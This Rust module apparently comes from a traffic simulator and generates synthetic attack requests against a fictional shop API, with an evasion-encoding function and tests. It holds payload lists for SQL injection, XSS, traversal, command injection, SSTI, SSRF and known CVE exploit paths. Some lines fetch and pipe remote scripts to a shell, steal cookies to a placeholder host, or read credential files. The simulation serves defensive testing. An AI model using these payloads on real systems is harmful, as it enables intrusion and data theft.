//! Payload-bearing attack traffic: an attacker probing the API's parameters with injection
//! payloads and known-CVE exploit paths ([`super::Scenario::InjectionProbing`]).
//!
//! Payloads are written here for the simulator (not taken from any test suite), in the shapes
//! tools such as sqlmap, nuclei and ffuf send them, and encoded the ways attackers evade naive
//! filters: percent-encoding, double encoding, `+` for spaces, mixed case, SQL comments between
//! keywords. Between payloads the attacker sends some ordinary requests (reconnaissance), so
//! not every request it sends carries evidence.

use rand::Rng;

use super::traffic::{Draft, Service, SimRng, chance, error_body, index, lognormal, pick};

/// What an injection attacker goes after.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Payloads {
    /// SQL injection on id and filter parameters (sqlmap-like).
    Sqli,
    /// Cross-site scripting in search and review parameters.
    Xss,
    /// Path traversal and file inclusion in file parameters.
    Traversal,
    /// Known CVE exploit paths (nuclei-like).
    CveScan,
    /// A fuzzer throwing every class at every parameter.
    Mixed,
}

impl Payloads {
    pub(crate) const ALL: [Payloads; 5] = [
        Payloads::Sqli,
        Payloads::Xss,
        Payloads::Traversal,
        Payloads::CveScan,
        Payloads::Mixed,
    ];
}

const SQLI: &[&str] = &[
    "1' OR '1'='1",
    "1 OR 1=1-- -",
    "1' AND SLEEP(5)-- -",
    "1 UNION SELECT NULL,NULL,NULL--",
    "1' UNION SELECT username,password FROM users-- -",
    "1) AND 1=CONVERT(int,(SELECT @@version))--",
    "1' AND extractvalue(1,concat(0x7e,(select version())))-- -",
    "1;WAITFOR DELAY '0:0:5'--",
    "' or ''='",
    "1' ORDER BY 10-- -",
    "-1' UNION SELECT 1,2,group_concat(table_name) from information_schema.tables-- -",
    "admin'--",
    "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
    "1' AND 1=1 AND 'a'='a",
    "(select(0)from(select(sleep(6)))v)",
    "1';DROP TABLE users;--",
    "1 AND 1=2 UNION ALL SELECT 1,version(),3-- -",
    "1' AND (SELECT 4012 FROM (SELECT(SLEEP(5)))xYzA)-- -",
    "1\" OR \"1\"=\"1",
    "1 OR pg_sleep(5)--",
];

const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.domain)>",
    "<svg/onload=alert(1)>",
    "\"><script>fetch('//203.0.113.50/c?'+document.cookie)</script>",
    "javascript:alert(1)",
    "<iframe src=\"javascript:alert(1)\">",
    "<body onload=alert(1)>",
    "'\"><img src=1 onerror=prompt(1)>",
    "<details open ontoggle=alert(1)>",
    "<ScRiPt>confirm(1)</sCrIpT>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "\"onmouseover=\"alert(1)",
    "<input autofocus onfocus=alert(1)>",
];

const TRAVERSAL: &[&str] = &[
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//etc/passwd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "../../../../etc/passwd%00.png",
    "..\\..\\..\\..\\windows\\win.ini",
    "php://filter/convert.base64-encode/resource=index.php",
    "file:///etc/shadow",
    "/proc/self/environ",
    "../../../../../../var/log/nginx/access.log",
    "%2e%2e/%2e%2e/%2e%2e/etc/hosts",
    "../../../../../../root/.ssh/id_rsa",
];

const CMDI: &[&str] = &[
    ";cat /etc/passwd",
    "|id",
    "$(id)",
    "`whoami`",
    "; wget http://203.0.113.50/x.sh -O- | sh",
    "&& curl http://203.0.113.50/p | bash",
];

const SSTI: &[&str] = &[
    "{{7*7}}",
    "${7*7}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
];

const SSRF: &[&str] = &[
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "gopher://127.0.0.1:6379/_INFO",
    "file:///etc/passwd",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "dict://127.0.0.1:11211/stats",
];

/// Exploit paths of published CVEs, as scanners request them (with the CVE they target); the
/// characters a URI may not carry raw are percent-encoded, as clients send them.
const CVE_PATHS: &[&str] = &[
    // CVE-2021-41773 / CVE-2021-42013, Apache httpd traversal to a shell.
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
    // CVE-2017-9841, PHPUnit eval-stdin.
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    // CVE-2022-22947, Spring Cloud Gateway actuator.
    "/actuator/gateway/routes",
    // CVE-2018-13379, Fortinet SSL VPN.
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    // CVE-2022-1388, F5 BIG-IP iControl REST.
    "/mgmt/tm/util/bash",
    // CVE-2021-34473, Exchange ProxyShell.
    "/autodiscover/autodiscover.json?@evil.example/owa/&Email=autodiscover/autodiscover.json%3F@evil.example",
    // CVE-2018-20062 / CVE-2019-9082, ThinkPHP remote code execution.
    "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=system&vars%5B1%5D%5B%5D=id",
    // CVE-2021-3129, Laravel Ignition.
    "/_ignition/execute-solution",
    // CVE-2023-1389, TP-Link Archer.
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
    // CVE-2020-14882, Oracle WebLogic console.
    "/console/css/%252e%252e%252fconsole.portal",
    // CVE-2021-21972, VMware vCenter.
    "/ui/vropspluginui/rest/services/uploadova",
    // CVE-2023-51467, Apache OFBiz.
    "/webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y",
    // CVE-2021-44228, Log4Shell in a parameter.
    "/api/v1/search?q=%24%7Bjndi:ldap://203.0.113.50:1389/a%7D",
    // CVE-2024-3400, PAN-OS GlobalProtect.
    "/ssl-vpn/hipreport.esp",
    // CVE-2023-46805 / CVE-2024-21887, Ivanti Connect Secure.
    "/api/v1/totp/user-backup-code/../../license/keys-status/%3bid",
    // CVE-2019-19781, Citrix ADC.
    "/vpn/../vpns/cfg/smb.conf",
    // CVE-2020-5902, F5 TMUI.
    "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd",
    // CVE-2022-26134, Confluence OGNL.
    "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/",
    // CVE-2017-5638, Struts (path variant used by scanners).
    "/struts2-showcase/integration/saveGangster.action",
];

/// Parameters that carry payloads: `(path before the value, service)`.
const SQLI_CARRIERS: &[(&str, Service)] = &[
    ("/api/v1/products?id=", Service::Products),
    ("/api/v1/products?category=shoes&sort=", Service::Products),
    ("/api/v1/orders?status=", Service::Orders),
    ("/api/v1/search?q=", Service::Search),
    ("/api/v1/users?name=", Service::Users),
];
const XSS_CARRIERS: &[(&str, Service)] = &[
    ("/api/v1/search?q=", Service::Search),
    ("/api/v1/products/2091/reviews?title=", Service::Products),
    ("/api/v1/search?q=shoes&ref=", Service::Search),
    ("/api/v1/users/me?display_name=", Service::Users),
];
const FILE_CARRIERS: &[(&str, Service)] = &[
    ("/api/v1/reports/download?file=", Service::Reports),
    ("/api/v1/export?template=", Service::Reports),
    ("/static/img?path=", Service::Web),
    ("/api/v1/files?name=", Service::Reports),
];
const URL_CARRIERS: &[(&str, Service)] = &[
    ("/api/v1/webhooks/test?url=", Service::Orders),
    ("/api/v1/products/import?source=", Service::Products),
    ("/api/v1/avatar?fetch=", Service::Users),
];

/// Percent-encodes `raw` as a query value (space as `+` or `%20`, `%` itself re-encoded when
/// `double`), with the attacker's evasions: keyword case mixed, or SQL comments for spaces.
fn encode(rng: &mut SimRng, raw: &str, sql: bool) -> String {
    let style = rng.random_range(0..10u8);
    let mut text = raw.to_owned();
    if sql && style == 7 {
        text = text.replace(' ', "/**/");
    }
    if style == 8 {
        // Mixed case, as sqlmap's `randomcase` tamper script and XSS filter evasions do.
        text = text
            .chars()
            .enumerate()
            .map(|(i, c)| {
                if i % 2 == 0 {
                    c.to_ascii_uppercase()
                } else {
                    c.to_ascii_lowercase()
                }
            })
            .collect();
    }
    let double = style == 9;
    let plus = style < 4;
    let mut out = String::with_capacity(text.len() * 3);
    for b in text.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' | b'/' => {
                out.push(char::from(b));
            }
            b' ' if plus => out.push('+'),
            b'%' if !double => out.push('%'),
            _ => {
                const HEX: &[u8; 16] = b"0123456789ABCDEF";
                if double {
                    out.push_str("%25");
                } else {
                    out.push('%');
                }
                out.push(char::from(HEX[usize::from(b >> 4)]));
                out.push(char::from(HEX[usize::from(b & 15)]));
            }
        }
    }
    out
}

/// One payload request for `payloads`; about one in five is an ordinary request instead.
pub(crate) fn injection_draft(rng: &mut SimRng, payloads: Payloads) -> Draft {
    if chance(rng, 0.2) {
        return recon(rng);
    }
    let class = match payloads {
        Payloads::Mixed => rng.random_range(0..7u8),
        Payloads::Sqli => 0,
        Payloads::Xss => 1,
        Payloads::Traversal => 2,
        Payloads::CveScan => 3,
    };
    let (carriers, list, sql) = match class {
        0 => (SQLI_CARRIERS, SQLI, true),
        1 => (XSS_CARRIERS, XSS, false),
        2 => (FILE_CARRIERS, TRAVERSAL, false),
        3 => return cve_draft(rng),
        4 => (SQLI_CARRIERS, CMDI, false),
        5 => (XSS_CARRIERS, SSTI, false),
        _ => (URL_CARRIERS, SSRF, false),
    };
    let (prefix, service) = pick(rng, carriers);
    let mut path = prefix.to_owned();
    let raw = pick(rng, list);
    path.push_str(&encode(rng, raw, sql));
    // The API rejects most payloads; some reach a query and fail, a few are reflected.
    let r = rng.random_range(0..100u8);
    let (status, bytes) = match class {
        0 if r < 15 => (500, error_body(rng, 500)),
        0 | 4 if r < 70 => (400, error_body(rng, 400)),
        1 | 5 if r < 40 => (200, lognormal(rng, 1800.0, 0.4) as u64),
        2 | 6 if r < 50 => (404, error_body(rng, 404)),
        _ => (400, error_body(rng, 400)),
    };
    Draft::get(path, status, bytes, lognormal(rng, 9.0, 0.6), service)
}

fn cve_draft(rng: &mut SimRng) -> Draft {
    let path = pick(rng, CVE_PATHS).to_owned();
    let (status, bytes) = match rng.random_range(0..10u8) {
        0..=6 => (404, error_body(rng, 404)),
        7 | 8 => (400, error_body(rng, 400)),
        _ => (403, error_body(rng, 403)),
    };
    let post = path.ends_with("eval-stdin.php") || path.ends_with("execute-solution");
    Draft {
        method: if post { "POST" } else { "GET" },
        body_in: if post { 180 } else { 0 },
        ..Draft::get(path, status, bytes, lognormal(rng, 3.0, 0.6), Service::Web)
    }
}

/// An ordinary request: the attacker learning the API.
fn recon(rng: &mut SimRng) -> Draft {
    const PAGES: &[&str] = &[
        "/api/v1/products?category=shoes&sort=price",
        "/api/v1/search?q=running+shoes",
        "/api/v1/products/2091",
        "/api/v1/products/2091/reviews",
        "/api/v1/recommendations",
        "/api/v1/products?page=2",
    ];
    let path = PAGES[index(rng, PAGES.len())].to_owned();
    Draft::get(
        path,
        200,
        lognormal(rng, 6000.0, 0.5) as u64,
        lognormal(rng, 20.0, 0.5),
        Service::Products,
    )
}

#[cfg(test)]
mod tests {
    use rand::SeedableRng;

    use super::*;

    #[test]
    fn payloads_are_encoded_as_query_values() {
        let mut rng = SimRng::seed_from_u64(3);
        for _ in 0..500 {
            let e = encode(&mut rng, "1' UNION SELECT a,b FROM users-- -", true);
            assert!(!e.contains(' ') && !e.contains('\''), "{e}");
            let d = percent_encoding::percent_decode_str(&e).decode_utf8_lossy();
            assert!(
                d.to_ascii_lowercase().contains("union") || d.contains("%27"),
                "{e}"
            );
        }
    }

    #[test]
    fn every_kind_draws_payloads_and_some_recon() {
        let mut rng = SimRng::seed_from_u64(9);
        for p in Payloads::ALL {
            let drafts: Vec<Draft> = (0..200).map(|_| injection_draft(&mut rng, p)).collect();
            let recon = drafts
                .iter()
                .filter(|d| d.status == 200 && !d.path.contains('%') && !d.path.contains('<'))
                .count();
            assert!((10..120).contains(&recon), "{p:?}: {recon} ordinary of 200");
            assert!(drafts.iter().all(|d| !d.path.contains(' ')), "{p:?}");
        }
    }
}
